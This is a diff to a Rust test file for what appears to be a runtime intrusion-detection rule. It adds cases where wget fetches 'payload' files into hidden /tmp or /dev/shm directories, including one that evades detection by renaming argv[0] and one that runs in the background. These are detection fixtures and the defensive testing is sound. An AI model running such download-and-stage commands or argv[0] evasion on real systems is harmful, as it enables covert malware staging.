@@ -150,6 +150,9 @@ const O_TRUNC: i64 = 0o1000;
 
 /// (alert type, events that must fire, look-alikes that must not).
 fn cases() -> Vec<(&'static str, Vec<NodeEvent>, Vec<NodeEvent>)> {
+    // wget run under another argv[0] (exec -a): its options are still wget's.
+    let mut renamed_wget = exec("x -P /tmp/.d https://example.com/payload");
+    renamed_wget.executable = Some("/usr/bin/wget".into());
     use NodeEventKind::*;
     let mut full_caps = contained(with_parent(exec("bash"), "/usr/sbin/runc"));
     full_caps.capabilities_effective = Some(0x1ff_ffff_ffff);
@@ -230,6 +233,8 @@ fn cases() -> Vec<(&'static str, Vec<NodeEvent>, Vec<NodeEvent>)> {
                 exec("wget -qO /tmp/.cache https://example.com/x"),
                 exec("wget -P /tmp/.d https://example.com/payload"),
                 exec("wget --directory-prefix=/dev/shm https://example.com/kit"),
+                exec("wget -bO /tmp/.x https://example.com/x"),
+                renamed_wget,
             ],
             vec![
                 exec("curl -fsSLo /opt/app/x.tar.gz https://example.com/x.tar.gz"),
